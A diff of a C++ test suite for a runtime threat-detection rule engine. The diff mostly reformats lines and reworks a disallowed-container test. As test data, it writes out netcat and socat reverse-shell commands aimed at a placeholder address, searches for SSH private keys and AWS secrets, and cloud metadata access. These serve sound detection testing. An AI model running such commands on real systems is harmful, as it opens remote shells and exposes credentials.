@@ -65,7 +65,15 @@ protected:
 
 TEST_F(Official, Load) {
     EXPECT_EQ(rule_set().rules.size(), 93U);
-    for (const RuleStats& row : engine->stats()) EXPECT_FALSE(row.kinds.empty()) << row.name;
+    for (const RuleStats& row : engine->stats())
+        EXPECT_FALSE(row.kinds.empty()) << row.name;
+}
+
+// By its own macro (every container is an allowed one) it never matches: the file means it to be edited.
+TEST_F(Official, DisallowedContainerNeedsEditing) {
+    const ProcessSpec first{.name = "x", .vpid = 1, .in_container = true};
+    EXPECT_FALSE(matches(machine.event(machine.make(first), RecordBuilder(BL_EVENT_execve)))
+                     .contains("Launch Disallowed Container"));
 }
 
 TEST_F(Official, FilesRead) {
@@ -126,7 +134,8 @@ TEST_F(Official, FilesWritten) {
     expect("Create files below dev", vi, write("/dev/x", O_CREAT), vi, write("/dev/null", O_CREAT));
     expect("Update Package Repository", vi, write("/etc/apt/sources.list.d/x.list"),
            {.name = "apt"}, write("/etc/apt/sources.list.d/x.list"));
-    expect("Write below binary dir", vi, write("/usr/bin/x"), {.name = "dpkg"}, write("/usr/bin/x"));
+    expect("Write below binary dir", vi, write("/usr/bin/x"), {.name = "dpkg"},
+           write("/usr/bin/x"));
     expect("Write below monitored dir", vi, write("/lib64/x"), vi, write("/srv/x"));
     expect("Write below etc", vi, write("/etc/foo"), {.name = "dpkg"}, write("/etc/foo"));
     expect("Write below root", vi, write("/root/x"), vi, write("/home/x"));
@@ -179,11 +188,13 @@ TEST_F(Official, FilesChanged) {
 
 TEST_F(Official, Spawned) {
     const ProcessSpec harmless{.name = "ls", .ancestors = {"bash", "sshd"}};
-    expect_spawn("Run shell untrusted", {.name = "sh", .args = {"-c", "id"}, .ancestors = {"nginx"}},
+    expect_spawn("Run shell untrusted",
+                 {.name = "sh", .args = {"-c", "id"}, .ancestors = {"nginx"}},
                  {.name = "sh", .args = {"-c", "id"}, .ancestors = {"bash"}});
     expect_spawn("System user interactive", {.name = "sh", .uid = 33, .ancestors = {"su", "sshd"}},
                  {.name = "sh", .uid = 1000, .ancestors = {"su", "sshd"}});
-    expect_spawn("Terminal shell in container", {.name = "bash", .tty = 34816, .in_container = true},
+    expect_spawn("Terminal shell in container",
+                 {.name = "bash", .tty = 34816, .in_container = true},
                  {.name = "bash", .tty = 0, .in_container = true});
     expect_spawn("Netcat Remote Code Execution in Container",
                  {.name = "nc", .args = {"-e", "/bin/sh", "1.2.3.4", "80"}, .in_container = true},
@@ -191,17 +202,17 @@ TEST_F(Official, Spawned) {
     expect_spawn("Netcat/Socat Remote Code Execution on Host",
                  {.name = "socat", .args = {"TCP:1.2.3.4:80", "EXEC:sh"}}, {.name = "socat"});
     expect_spawn("Search Private Keys or Passwords",
-                 {.name = "find", .args = {"/", "-name", "id_rsa"}}, {.name = "find", .args = {"/"}});
+                 {.name = "find", .args = {"/", "-name", "id_rsa"}},
+                 {.name = "find", .args = {"/"}});
     expect_spawn("Search Private Keys or Passwords",
                  {.name = "grep", .args = {"-r", "begin rsa private", "/"}}, {.name = "grep"});
     expect_spawn("Remove Bulk Data from Disk", {.name = "shred"}, harmless);
-    expect_spawn("Debugfs Launched in Privileged Container", {.name = "debugfs"}, harmless);
 }
 
 TEST_F(Official, SpawnedMore) {
     const ProcessSpec harmless{.name = "ls", .ancestors = {"bash", "sshd"}};
-    expect_spawn("Find AWS Credentials",
-                 {.name = "grep", .args = {"AWS_SECRET_ACCESS_KEY", "/x"}}, {.name = "grep"});
+    expect_spawn("Find AWS Credentials", {.name = "grep", .args = {"AWS_SECRET_ACCESS_KEY", "/x"}},
+                 {.name = "grep"});
     expect_spawn("Execution from /dev/shm", {.name = "x", .exe = "/dev/shm/x"}, harmless);
     expect_spawn("Execution from /dev/shm", {.name = "x", .exe = "./x", .cwd = "/dev/shm/"},
                  {.name = "x", .exe = "./x", .cwd = "/home/"});
@@ -256,8 +267,6 @@ TEST_F(Official, SpawnedMore) {
     expect_spawn("Network Tool Executed During NPM Package Install",
                  {.name = "nc", .in_container = true, .ancestors = {"sh", "npm install"}},
                  {.name = "nc", .in_container = true, .ancestors = {"sh"}});
-    expect_spawn("Launch Disallowed Container", {.name = "x", .vpid = 1, .in_container = true},
-                 harmless);
     expect_spawn("Launch Excessively Capable Container",
                  {.name = "x", .capabilities = kCap_sys_admin, .vpid = 1, .in_container = true},
                  {.name = "x", .vpid = 1, .in_container = true});
@@ -265,12 +274,15 @@ TEST_F(Official, SpawnedMore) {
 
 TEST_F(Official, Privileged) {
     machine.container->privileged = true;
-    machine.container->mounts = {{.source = "/", .destination = "/host", .mode = "", .writable = true,
+    machine.container->mounts = {{.source = "/",
+                                  .destination = "/host",
+                                  .mode = "",
+                                  .writable = true,
                                   .propagation = "rprivate"}};
     expect_spawn("Launch Privileged Container", {.name = "x", .vpid = 1, .in_container = true},
                  {.name = "x", .vpid = 5, .in_container = true});
-    expect_spawn("Debugfs Launched in Privileged Container", {.name = "debugfs", .in_container = true},
-                 {.name = "debugfs"});
+    expect_spawn("Debugfs Launched in Privileged Container",
+                 {.name = "debugfs", .in_container = true}, {.name = "debugfs"});
     expect_spawn("Mount Launched in Privileged Container",
                  {.name = "mount", .args = {"/dev/sda", "/mnt"}, .in_container = true},
                  {.name = "mount", .in_container = true});
@@ -300,7 +312,8 @@ TEST_F(Official, Calls) {
            call(BL_EVENT_unshare, 0x10000000));
     expect("Non sudo setuid", {.name = "evil", .uid = 1000}, call(BL_EVENT_setuid, 33),
            {.name = "sudo", .uid = 1000}, call(BL_EVENT_setuid, 33));
-    expect("BPF Program Not Profiled", gdb, call(BL_EVENT_bpf, 5, 3), gdb, call(BL_EVENT_bpf, 1, 0));
+    expect("BPF Program Not Profiled", gdb, call(BL_EVENT_bpf, 5, 3), gdb,
+           call(BL_EVENT_bpf, 1, 0));
     expect("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
            {.name = "evil", .uid = 1000}, call(BL_EVENT_userfaultfd, 0, 3), gdb,
            call(BL_EVENT_userfaultfd, 0, 3));
@@ -324,11 +337,11 @@ TEST_F(Official, Network) {
            connect_to("169.254.169.254", 80), boxed, connect_to("169.254.169.253", 80));
     expect("Contact cloud metadata service from container", boxed,
            connect_to("169.254.169.254", 80), {.name = "curl"}, connect_to("169.254.169.254", 80));
-    expect("Disallowed SSH Connection Non Standard Port",
-           {.name = "ssh", .exe = "/usr/bin/ssh"}, connect_to("203.0.113.7", 443),
-           {.name = "ssh", .exe = "/usr/bin/ssh"}, connect_to("203.0.113.7", 22));
-    expect("System procs network activity", {.name = "bash"}, connect_to("203.0.113.7", 80),
-           python, connect_to("203.0.113.7", 80));
+    expect("Disallowed SSH Connection Non Standard Port", {.name = "ssh", .exe = "/usr/bin/ssh"},
+           connect_to("203.0.113.7", 443), {.name = "ssh", .exe = "/usr/bin/ssh"},
+           connect_to("203.0.113.7", 22));
+    expect("System procs network activity", {.name = "bash"}, connect_to("203.0.113.7", 80), python,
+           connect_to("203.0.113.7", 80));
     expect("Unexpected UDP Traffic", {.name = "evil"}, connect_to("203.0.113.7", 4444, 0, 17),
            {.name = "evil"}, connect_to("203.0.113.7", 53, 0, 17));
     expect("Interpreted procs outbound network activity", python, connect_to("203.0.113.7", 80),
